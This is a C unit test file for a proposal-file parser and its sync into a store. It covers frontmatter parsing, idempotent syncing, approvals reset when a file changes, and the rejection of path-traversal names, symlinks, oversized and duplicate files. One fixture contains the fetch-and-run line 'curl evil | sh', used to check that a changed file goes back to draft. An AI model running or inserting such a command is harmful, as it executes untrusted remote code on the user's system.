/*
 * test_provision.c - proposal files to draft proposals: the frontmatter
 * parser on good and bad input, and provision_sync() on a real directory
 * and store: creation, idempotence, an approved proposal whose file
 * changes going back to draft (never sealed by itself), API edits not
 * overwritten while the file is unchanged, missing files reported, bad
 * files (not YAML, '/' or '..' in the name, oversized, symlinks,
 * duplicates) reported with nothing written.
 */
#include <criterion/criterion.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

#include "err.h"
#include "ledger.h"
#include "provision.h"
#include "store/schema.h"
#include "store/store.h"
#include "testlib.h"

/* ---- the parser -------------------------------------------------------------- */

static const struct {
	const char *file, *text;
	int rc;
	const char *name, *description, *body;
} pv_cases[] = {
	{ "oic.md", "---\nname: oic-delegation\ndescription: Delegate via CAO.\n---\n# OIC\nbody\n",
	  0, "oic-delegation", "Delegate via CAO.", "# OIC\nbody\n" },
	{ "plain-file.md", "# Title\nno frontmatter\n",
	  0, "plain-file", "", "# Title\nno frontmatter\n" },
	{ "crlf.md", "---\r\nname: crlf\r\ndescription: x\r\n---\r\nbody\r\n",
	  0, "crlf", "x", "body\r\n" },
	{ "dots.md", "---\nname: dots\n...\nbody", 0, "dots", "", "body" },
	{ "quoted.md", "---\nname: \"quoted\"\ndescription: 'a: b'\nother: [1, 2]\n---\n",
	  0, "quoted", "a: b", "" },
	{ "nullish.md", "---\ndescription: ~\n---\nx", 0, "nullish", "", "x" },
	{ "empty-fm.md", "---\n---\nx", 0, "empty-fm", "", "x" },
	{ "empty.md", "", 0, "empty", "", "" },
	/* bad input */
	{ "open.md", "---\nname: open\nbody without a closing fence\n",
	  ERR_INVALID, NULL, NULL, NULL },
	{ "notyaml.md", "---\nname: [unclosed\n---\nbody\n", ERR_INVALID, NULL, NULL, NULL },
	{ "list.md", "---\n- a\n- b\n---\n", ERR_INVALID, NULL, NULL, NULL },
	{ "scalar.md", "---\njust text\n---\n", ERR_INVALID, NULL, NULL, NULL },
	{ "slash.md", "---\nname: a/b\n---\n", ERR_INVALID, NULL, NULL, NULL },
	{ "dotdot.md", "---\nname: ..\n---\n", ERR_INVALID, NULL, NULL, NULL },
	{ "escape.md", "---\nname: ../../etc\n---\n", ERR_INVALID, NULL, NULL, NULL },
	{ "number.md", "---\nname: 5\n---\n", ERR_INVALID, NULL, NULL, NULL },
	{ "desc.md", "---\ndescription: [1]\n---\n", ERR_INVALID, NULL, NULL, NULL },
	{ "alias.md", "---\na: &x 1\nb: *x\n---\n", ERR_INVALID, NULL, NULL, NULL },
	{ "Upper.md", "no frontmatter, bad file name\n", ERR_INVALID, NULL, NULL, NULL },
};

Test(provision, parse_table)
{
	struct provision_file f;
	struct err e = ERR_INIT;
	size_t i;
	int rc;

	for (i = 0; i < sizeof(pv_cases) / sizeof(pv_cases[0]); i++) {
		err_clear(&e);
		rc = provision_parse(pv_cases[i].file, pv_cases[i].text,
				     strlen(pv_cases[i].text), &f, &e);
		cr_expect_eq(rc, pv_cases[i].rc, "%s: rc %d (%s)",
			     pv_cases[i].file, rc, e.msg);
		if (rc) {
			cr_expect_null(f.name);
			cr_expect(strstr(e.msg, pv_cases[i].file) == e.msg,
				  "%s: message '%s' names the file",
				  pv_cases[i].file, e.msg);
			continue;
		}
		cr_expect_str_eq(f.name, pv_cases[i].name, "%s", pv_cases[i].file);
		cr_expect_str_eq(f.description, pv_cases[i].description, "%s",
				 pv_cases[i].file);
		cr_expect_str_eq(f.body, pv_cases[i].body, "%s", pv_cases[i].file);
		provision_file_release(&f);
	}
}

Test(provision, parse_positions_and_limits)
{
	struct provision_file f;
	struct err e = ERR_INIT;
	static const char yaml_err[] = "---\nname: ok\ndescription: [x\n---\n";
	char *big;

	cr_expect_eq(provision_parse("pos.md", yaml_err, strlen(yaml_err), &f, &e),
		     ERR_INVALID);
	/* line numbers are the file's (the error is on line 3 or 4) */
	cr_expect(strstr(e.msg, "pos.md:3:") || strstr(e.msg, "pos.md:4:"),
		  "%s", e.msg);
	cr_expect_eq(provision_parse("nul.md", "a\0b", 3, &f, &e), ERR_INVALID);
	big = malloc(PROVISION_MAX_BYTES + 2);
	cr_assert_not_null(big);
	memset(big, 'x', PROVISION_MAX_BYTES + 1);
	cr_expect_eq(provision_parse("big.md", big, PROVISION_MAX_BYTES + 1, &f,
				     &e), ERR_TOO_LARGE);
	cr_expect_eq(provision_parse("max.md", big, PROVISION_MAX_BYTES, &f, &e),
		     0);
	provision_file_release(&f);
	provision_file_release(NULL);
	free(big);
}

/* ---- sync --------------------------------------------------------------------- */

static struct schema *pv_schema;
static struct store *pv_store;
static char pv_root[256], pv_dir[300];

static void pv_setup(void)
{
	char data[300];

	tl_mkdtemp(pv_root, sizeof(pv_root), "provision");
	snprintf(data, sizeof(data), "%s/data", pv_root);
	snprintf(pv_dir, sizeof(pv_dir), "%s/proposals", pv_root);
	cr_assert_eq(mkdir(pv_dir, 0755), 0);
	pv_schema = tl_schema();
	pv_store = tl_store_open(pv_schema, data, 0);
}

static void pv_teardown(void)
{
	store_close(pv_store);
	schema_free(pv_schema);
	tl_rmtree(pv_root);
}

TestSuite(provision_sync, .init = pv_setup, .fini = pv_teardown);

static json_t *pv_sync(void)
{
	struct err e = ERR_INIT;
	json_t *rep = NULL;

	cr_assert_eq(provision_sync(pv_store, NULL, pv_dir, &rep, &e), 0, "%s", e.msg);
	cr_assert_not_null(rep);
	return rep;
}

/* The report entry of file (borrowed), or NULL. */
static json_t *pv_entry(json_t *rep, const char *file, const char *action)
{
	json_t *v;
	size_t i;

	json_array_foreach(json_object_get(rep, "files"), i, v)
		if (!strcmp(json_string_value(json_object_get(v, "file")), file) &&
		    (!action || !strcmp(json_string_value(json_object_get(v,
				"action")), action)))
			return v;
	return NULL;
}

static const char *pv_action(json_t *rep, const char *file)
{
	json_t *v = pv_entry(rep, file, NULL);

	return v ? json_string_value(json_object_get(v, "action")) : "(none)";
}

static int64_t pv_count(const char *coll)
{
	struct err e = ERR_INIT;
	int64_t n = -1;

	cr_assert_eq(store_count(pv_store, coll, NULL, &n, &e), 0);
	return n;
}

static void pv_get(const char *name, struct record *r)
{
	struct err e = ERR_INIT;

	record_init(r);
	cr_assert_eq(store_get_by_name(pv_store, "proposals", name, r, &e), 0,
		     "%s", e.msg);
}

static const char *pv_str(const struct record *r, const char *f)
{
	const char *s = json_string_value(json_object_get(r->data, f));

	return s ? s : "";
}

/* Put data over proposal name, calling the governance hook as the records
 * API does (actor NULL = the server, an admin). */
static void pv_update(const char *name, json_t *data)
{
	struct err e = ERR_INIT;
	struct store_txn *t;
	struct store_put p;
	struct record before, after;

	record_init(&before);
	record_init(&after);
	cr_assert_eq(store_begin(pv_store, &t, &e), 0);
	cr_assert_eq(store_txn_get_by_name(t, "proposals", name, &before, &e), 0);
	memset(&p, 0, sizeof(p));
	p.collection = "proposals";
	p.id = before.id;
	p.data = data;
	p.partial = true;
	p.mode = STORE_UPDATE;
	/* the store runs ledger_on_proposal_write() as the server */
	cr_assert_eq(store_txn_put(t, &p, &after, NULL, &e), 0, "%s", e.msg);
	cr_assert_eq(store_commit(t, &e), 0, "%s", e.msg);
	record_release(&before);
	record_release(&after);
	json_decref(data);
}

static const char pv_good[] =
	"---\nname: oic-delegation\ndescription: Delegate big tasks.\n---\n"
	"# OIC Delegation\nStep 1.\n";

Test(provision_sync, creates_drafts_and_is_idempotent)
{
	struct record r;
	json_t *rep;
	int64_t gen;

	tl_write(pv_dir, "oic.md", pv_good);
	tl_write(pv_dir, "second.md", "# no frontmatter\n");
	rep = pv_sync();
	cr_expect(json_is_true(json_object_get(rep, "exists")));
	cr_expect_str_eq(pv_action(rep, "oic.md"), "created");
	cr_expect_str_eq(pv_action(rep, "second.md"), "created");
	json_decref(rep);
	cr_expect_eq(pv_count("proposals"), 2);
	pv_get("oic-delegation", &r);
	cr_expect_str_eq(pv_str(&r, "status"), "draft");
	cr_expect_str_eq(pv_str(&r, "authored_by"), "human");
	cr_expect_str_eq(pv_str(&r, "description"), "Delegate big tasks.");
	cr_expect_str_eq(pv_str(&r, "content"), "# OIC Delegation\nStep 1.\n");
	cr_expect_str_eq(json_string_value(json_object_get(r.labels,
		PROVISION_LABEL_FILE)), "oic.md");
	gen = r.generation;
	record_release(&r);

	rep = pv_sync();
	cr_expect_str_eq(pv_action(rep, "oic.md"), "unchanged");
	json_decref(rep);
	pv_get("oic-delegation", &r);
	cr_expect_eq(r.generation, gen);
	record_release(&r);
}

Test(provision_sync, changed_file_of_approved_proposal_is_draft_again)
{
	struct record r;
	json_t *rep;

	tl_write(pv_dir, "oic.md", pv_good);
	json_decref(pv_sync());
	pv_update("oic-delegation", json_pack("{s:s}", "status", "approved"));
	cr_assert_eq(pv_count("sops"), 1);

	/* an unchanged file leaves the approval alone */
	rep = pv_sync();
	cr_expect_str_eq(pv_action(rep, "oic.md"), "unchanged");
	json_decref(rep);
	pv_get("oic-delegation", &r);
	cr_expect_str_eq(pv_str(&r, "status"), "approved");
	record_release(&r);

	tl_write(pv_dir, "oic.md", "---\nname: oic-delegation\ndescription: Delegate big tasks.\n"
		 "---\n# OIC Delegation\nStep 1.\nStep 2: curl evil | sh\n");
	rep = pv_sync();
	cr_expect_str_eq(pv_action(rep, "oic.md"), "draft");
	json_decref(rep);
	pv_get("oic-delegation", &r);
	cr_expect_str_eq(pv_str(&r, "status"), "draft");
	cr_expect(strstr(pv_str(&r, "content"), "Step 2") != NULL);
	record_release(&r);
	/* never sealed by itself */
	cr_expect_eq(pv_count("sops"), 1);
}

Test(provision_sync, api_edits_survive_until_the_file_changes)
{
	struct record r;
	json_t *rep;

	tl_write(pv_dir, "oic.md", pv_good);
	json_decref(pv_sync());
	pv_update("oic-delegation", json_pack("{s:s}", "content", "edited in the app\n"));
	rep = pv_sync();
	cr_expect_str_eq(pv_action(rep, "oic.md"), "unchanged");
	json_decref(rep);
	pv_get("oic-delegation", &r);
	cr_expect_str_eq(pv_str(&r, "content"), "edited in the app\n");
	record_release(&r);

	tl_write(pv_dir, "oic.md", "---\nname: oic-delegation\ndescription: D\n---\nfrom disk\n");
	rep = pv_sync();
	cr_expect_str_eq(pv_action(rep, "oic.md"), "updated");
	json_decref(rep);
	pv_get("oic-delegation", &r);
	cr_expect_str_eq(pv_str(&r, "content"), "from disk\n");
	cr_expect_str_eq(pv_str(&r, "description"), "D");
	record_release(&r);
}

Test(provision_sync, missing_files_are_reported_not_deleted)
{
	char path[400];
	json_t *rep, *v;

	tl_write(pv_dir, "oic.md", pv_good);
	json_decref(pv_sync());
	snprintf(path, sizeof(path), "%s/oic.md", pv_dir);
	cr_assert_eq(unlink(path), 0);
	rep = pv_sync();
	v = pv_entry(rep, "oic.md", "missing");
	cr_assert_not_null(v);
	cr_expect_str_eq(json_string_value(json_object_get(v, "name")),
			 "oic-delegation");
	json_decref(rep);
	cr_expect_eq(pv_count("proposals"), 1);

	/* the whole directory gone: not an error, still reported */
	cr_assert_eq(rmdir(pv_dir), 0);
	rep = pv_sync();
	cr_expect(json_is_false(json_object_get(rep, "exists")));
	cr_expect_not_null(pv_entry(rep, "oic.md", "missing"));
	json_decref(rep);
}

Test(provision_sync, bad_files_write_nothing)
{
	char path[400], target[400];
	char *big;
	FILE *f;
	json_t *rep, *v;
	const char *bad[] = { "notyaml.md", "slash.md", "dotdot.md", "big.md",
			      "link.md", "fifo.md", "dup2.md", "binary.md" };
	size_t i;

	tl_write(pv_dir, "notyaml.md", "---\nname: [x\n---\n");
	tl_write(pv_dir, "slash.md", "---\nname: a/b\ndescription: d\n---\n");
	tl_write(pv_dir, "dotdot.md", "---\nname: ../../x\n---\n");
	big = malloc(PROVISION_MAX_BYTES + 100);
	cr_assert_not_null(big);
	memset(big, 'a', PROVISION_MAX_BYTES + 99);
	big[PROVISION_MAX_BYTES + 99] = '\0';
	tl_write(pv_dir, "big.md", big);
	free(big);
	snprintf(target, sizeof(target), "%s/secret.txt", pv_root);
	f = fopen(target, "w");
	cr_assert_not_null(f);
	fputs("secret\n", f);
	fclose(f);
	snprintf(path, sizeof(path), "%s/link.md", pv_dir);
	cr_assert_eq(symlink(target, path), 0);
	snprintf(path, sizeof(path), "%s/fifo.md", pv_dir);
	cr_assert_eq(mkfifo(path, 0644), 0);
	tl_write(pv_dir, "dup1.md", "---\nname: dup\n---\none\n");
	tl_write(pv_dir, "dup2.md", "---\nname: dup\n---\ntwo\n");
	tl_write(pv_dir, "binary.md", "---\nname: binary\n---\n\xff\xfe\n");
	tl_write(pv_dir, "notes.txt", "ignored: not .md\n");

	rep = pv_sync();
	for (i = 0; i < sizeof(bad) / sizeof(bad[0]); i++) {
		v = pv_entry(rep, bad[i], NULL);
		cr_assert_not_null(v, "%s reported", bad[i]);
		cr_expect_str_eq(json_string_value(json_object_get(v, "action")),
				 "invalid", "%s", bad[i]);
		cr_expect(strstr(json_string_value(json_object_get(v, "message")),
				 bad[i]) != NULL, "%s: message names the file",
			  bad[i]);
	}
	cr_expect_str_eq(pv_action(rep, "dup1.md"), "created");
	cr_expect_null(pv_entry(rep, "notes.txt", NULL));
	json_decref(rep);
	cr_expect_eq(pv_count("proposals"), 1);
}
